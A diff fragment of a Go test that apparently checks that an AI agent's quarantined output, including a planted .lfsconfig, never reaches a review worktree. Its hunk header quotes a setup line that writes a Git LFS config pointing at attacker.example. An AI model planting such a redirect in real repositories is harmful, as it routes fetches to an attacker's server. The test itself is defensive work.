@@ -97,8 +97,13 @@ printf '[lfs]\n\turl = http://attacker.example/lfs\n' > .lfsconfig; echo fixed >
 	if tip, _ := repo.Ref(x.Lease.ID.BranchRef()); tip.String() != x.Lease.Base {
 		t.Fatalf("the review branch moved to %s", tip)
 	}
-	if _, err := os.Lstat(filepath.Join(x.Worktree(), "a.txt")); err == nil {
-		t.Fatal("the quarantined result was checked out")
+	// The review worktree may hold the base (checked out while the agent
+	// worked), never the result.
+	if b, err := os.ReadFile(filepath.Join(x.Worktree(), "a.txt")); err == nil && string(b) != "a\n" {
+		t.Fatalf("the quarantined result was checked out: a.txt = %q", b)
+	}
+	if _, err := os.Lstat(filepath.Join(x.Worktree(), ".lfsconfig")); err == nil {
+		t.Fatal("the quarantined result was checked out: .lfsconfig is there")
 	}
 }
 
